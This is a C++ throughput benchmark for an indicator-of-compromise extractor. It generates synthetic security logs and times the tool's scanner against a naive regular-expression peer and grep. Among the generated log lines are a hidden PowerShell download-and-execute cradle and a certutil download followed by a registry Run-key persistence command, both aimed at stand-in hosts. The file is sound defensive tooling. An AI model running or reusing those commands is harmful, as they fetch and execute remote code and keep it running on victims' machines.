// Indicator extraction throughput: Trinity's one-pass scanner against a
// naive peer of our own (one RE2 regular expression per indicator type over
// the whole text, as most IOC extractors do) and `grep -oE` for IPv4, on
// the same generated text in the same run. One JSON line per measurement;
// scripts/bench.sh tabulates native and wasm.
//
//   trinity_bench_ioc --generate FILE [--mb N]       write the sample text
//   trinity_bench_ioc [--repeat N] [--grep] FILE     measure
#include <re2/re2.h>

#include <algorithm>
#include <chrono>
#include <cstdio>
#include <cstdlib>
#include <fstream>
#include <functional>
#include <memory>
#include <random>
#include <string>
#include <vector>

#include "trinity/io/byte_source.h"
#include "trinity/ioc/collect.h"
#include "trinity/ioc/extract.h"

namespace {

using Clock = std::chrono::steady_clock;

// [SECTION] The sample: logs with command lines, URLs, addresses, hashes

std::string generate(std::size_t bytes) {
    std::mt19937 rng(42);
    auto pick = [&](std::initializer_list<const char*> xs) { return *(xs.begin() + rng() % xs.size()); };
    auto num = [&](unsigned n) { return std::to_string(rng() % n); };
    auto hex = [&](std::size_t n) {
        static constexpr char kHex[] = "0123456789abcdef";
        std::string s;
        for (std::size_t i = 0; i < n; ++i) s += kHex[rng() % 16];
        return s;
    };
    std::string out;
    out.reserve(bytes + 1024);
    std::uint64_t line = 0;
    while (out.size() < bytes) {
        const std::string ts = "2024-03-" + std::to_string(1 + line % 28) + "T12:" + num(60) + ":" + num(60) + "Z ";
        const std::string host = pick({"WS-0142", "dc01.corp.example.com", "srv-web-3", "LAPTOP-7QK2"});
        switch (rng() % 6) {
            case 0:
                out += ts + host + " Sysmon[4]: EventID=1 Image=C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe "
                       "CommandLine=\"powershell.exe -nop -w hidden -c IEX (New-Object Net.WebClient).DownloadString('http://" +
                       std::string(pick({"cdn-update", "static-files", "login-portal"})) + num(500) + "." +
                       pick({"com", "net", "co.uk", "io"}) + "/" + hex(8) + ".ps1')\" User=CORP\\bob Hashes=SHA256=" + hex(64) +
                       ",MD5=" + hex(32) + "\n";
                break;
            case 1:
                out += ts + host + " kernel: [UFW BLOCK] IN=eth0 OUT= SRC=" + num(223) + "." + num(255) + "." + num(255) +
                       "." + num(255) + " DST=10.0." + num(255) + "." + num(255) + " LEN=60 TTL=" + num(128) +
                       " PROTO=TCP SPT=" + num(65535) + " DPT=443 WINDOW=64240 RES=0x00 SYN URGP=0\n";
                break;
            case 2:
                out += ts + host + " sshd[" + num(40000) + "]: Accepted publickey for admin from " + num(223) + "." + num(255) +
                       "." + num(255) + "." + num(255) + " port " + num(65535) + " ssh2: RSA SHA256:" + hex(43) + "\n";
                break;
            case 3:
                out += ts + host + " certutil.exe -urlcache -split -f https://" + hex(6) + ".example-bad.net/raw/" + hex(10) +
                       " C:\\Users\\Public\\" + hex(6) + ".exe; reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v " +
                       hex(4) + " /d C:\\Users\\Public\\" + hex(6) + ".exe\n";
                break;
            case 4:
                out += ts + host + " postfix/smtpd[" + num(9000) + "]: NOQUEUE: reject: RCPT from unknown[" + num(223) + "." +
                       num(255) + "." + num(255) + "." + num(255) + "]: 554 5.7.1 <user" + num(999) +
                       "@mail.example.org>: Relay access denied; from=<invoice" + num(99) + "@billing-secure.com> proto=ESMTP "
                       "helo=<mx" + num(9) + ".spam.example>\n";
                break;
            default:
                out += ts + host + " app[" + num(999) + "]: request completed in " + num(900) + " ms, status=200, "
                       "version 10.0.19041." + num(9999) + ", cache hit ratio 0." + num(99) + ", see CVE-2021-" + num(99999) + "\n";
        }
        ++line;
    }
    return out;
}

// [SECTION] The engines

std::uint64_t count_lines(std::string_view text) { return static_cast<std::uint64_t>(std::count(text.begin(), text.end(), '\n')); }

// Trinity: the whole pipeline (lines, refang check, scan, dedup).
std::uint64_t trinity_collect(std::string_view text, const trinity::ioc::ExtractOptions& options) {
    trinity::io::SpanByteSource source(trinity::io::as_bytes(text), "bench");
    trinity::ioc::Collector collector(options);
    (void)collector.add_text_source(source, {"bench", ""});
    return collector.set().total_sightings();
}

// Trinity's scanner alone over every line (no dedup), as the peer counts.
std::uint64_t trinity_extract(std::string_view text, const trinity::ioc::ExtractOptions& options) {
    std::vector<trinity::ioc::Match> matches;
    std::uint64_t found = 0;
    std::size_t pos = 0;
    while (pos < text.size()) {
        std::size_t end = text.find('\n', pos);
        if (end == std::string_view::npos) end = text.size();
        matches.clear();
        trinity::ioc::extract(text.substr(pos, end - pos), options, matches);
        found += matches.size();
        pos = end + 1;
    }
    return found;
}

// The naive peer: one RE2 per type, each over the whole text.
struct NaivePeer {
    std::vector<std::unique_ptr<re2::RE2>> patterns;
    NaivePeer() {
        const char* kPatterns[] = {
            R"(\b((?:25[0-5]|2[0-4]\d|1?\d?\d)(?:\.(?:25[0-5]|2[0-4]\d|1?\d?\d)){3})\b)",   // ipv4
            R"(\b((?:[0-9a-fA-F]{1,4}:){2,7}:?[0-9a-fA-F]{0,4})\b)",                        // ipv6 (rough)
            R"(\b((?:[a-zA-Z0-9-]{1,63}\.)+[a-zA-Z]{2,63})\b)",                              // domain
            R"(((?:https?|ftp)://[^\s"'<>|]+))",                                             // url
            R"(\b([a-zA-Z0-9._%+-]+@(?:[a-zA-Z0-9-]+\.)+[a-zA-Z]{2,}))",                     // email
            R"(\b([0-9a-fA-F]{32})\b)", R"(\b([0-9a-fA-F]{40})\b)", R"(\b([0-9a-fA-F]{64})\b)",
            R"(\b([0-9a-fA-F]{128})\b)",                                                     // hashes
            R"(([a-zA-Z]:\\[^\s"'<>|*?]+))",                                                 // windows path
            R"((?:^|\s)(/[a-zA-Z0-9._-]+(?:/[a-zA-Z0-9._-]+)+))",                            // unix path
            R"(\b((?:HKLM|HKCU|HKU|HKCR|HKEY_[A-Z_]+)\\[^\s"']+))",                          // registry
            R"(\b(CVE-\d{4}-\d{4,}))",                                                       // cve
        };
        for (const char* p : kPatterns) patterns.push_back(std::make_unique<re2::RE2>(p));
    }
    std::uint64_t run(std::string_view text, bool ipv4_only) const {
        std::uint64_t found = 0;
        for (const auto& re : patterns) {
            re2::StringPiece input(text.data(), text.size());
            re2::StringPiece match;
            while (re2::RE2::FindAndConsume(&input, *re, &match)) ++found;
            if (ipv4_only) break;
        }
        return found;
    }
};

struct Result {
    double seconds = 1e30;
    std::uint64_t matches = 0;
};

Result best_of(unsigned repeat, const std::function<std::uint64_t()>& run) {
    Result r;
    for (unsigned i = 0; i < repeat; ++i) {
        const auto start = Clock::now();
        r.matches = run();
        r.seconds = std::min(r.seconds, std::chrono::duration<double>(Clock::now() - start).count());
    }
    return r;
}

void print(const std::string& engine, const Result& r, std::size_t bytes, std::uint64_t lines) {
    std::printf("{\"engine\":\"%s\",\"mb_per_s\":%.2f,\"records_per_s\":%.0f,\"matches\":%llu,\"bytes\":%zu}\n",
                engine.c_str(), static_cast<double>(bytes) / 1e6 / r.seconds, static_cast<double>(lines) / r.seconds,
                static_cast<unsigned long long>(r.matches), bytes);
    std::fflush(stdout);
}

std::string slurp(const std::string& path) {
    std::ifstream in(path, std::ios::binary | std::ios::ate);
    if (!in) return {};
    std::string out(static_cast<std::size_t>(in.tellg()), '\0');
    in.seekg(0);
    in.read(out.data(), static_cast<std::streamsize>(out.size()));
    return out;
}

}  // namespace

int main(int argc, char** argv) {
    unsigned repeat = 3;
    std::size_t mb = 64;
    bool grep = false;
    std::string generate_to, path;
    for (int i = 1; i < argc; ++i) {
        const std::string arg = argv[i];
        if (arg == "--repeat" && i + 1 < argc) repeat = static_cast<unsigned>(std::max(1, std::atoi(argv[++i])));
        else if (arg == "--mb" && i + 1 < argc) mb = static_cast<std::size_t>(std::max(1, std::atoi(argv[++i])));
        else if (arg == "--generate" && i + 1 < argc) generate_to = argv[++i];
        else if (arg == "--grep") grep = true;
        else path = arg;
    }
    if (!generate_to.empty()) {
        const std::string text = generate(mb << 20);
        std::ofstream(generate_to, std::ios::binary).write(text.data(), static_cast<std::streamsize>(text.size()));
        return 0;
    }
    if (path.empty()) {
        std::fprintf(stderr, "usage: trinity_bench_ioc --generate FILE [--mb N] | [--repeat N] [--grep] FILE\n");
        return 2;
    }
    const std::string text = slurp(path);
    if (text.empty()) {
        std::fprintf(stderr, "trinity_bench_ioc: cannot read %s\n", path.c_str());
        return 1;
    }
#ifdef __EMSCRIPTEN__
    const std::string where = " (wasm)";
#else
    const std::string where = "";
#endif
    const std::uint64_t lines = count_lines(text);
    trinity::ioc::ExtractOptions all;
    trinity::ioc::ExtractOptions ipv4;
    ipv4.types = trinity::ioc::TypeMask::none().add(trinity::ioc::IndicatorType::ipv4);
    print("trinity scan, all types" + where, best_of(repeat, [&] { return trinity_extract(text, all); }), text.size(), lines);
    print("trinity scan + dedup + provenance" + where, best_of(repeat, [&] { return trinity_collect(text, all); }),
          text.size(), lines);
    print("trinity scan, ipv4 only" + where, best_of(repeat, [&] { return trinity_extract(text, ipv4); }), text.size(), lines);
    const NaivePeer peer;
    print("naive RE2 per type, all types" + where, best_of(repeat, [&] { return peer.run(text, false); }), text.size(), lines);
    print("naive RE2, ipv4 only" + where, best_of(repeat, [&] { return peer.run(text, true); }), text.size(), lines);
    if (grep) {
        const std::string cmd = "LC_ALL=C grep -oE '([0-9]{1,3}\\.){3}[0-9]{1,3}' '" + path + "' | wc -l > /dev/null";
        print("grep -oE, ipv4 only", best_of(repeat, [&] { return static_cast<std::uint64_t>(std::system(cmd.c_str())); }),
              text.size(), lines);
    }
    return 0;
}
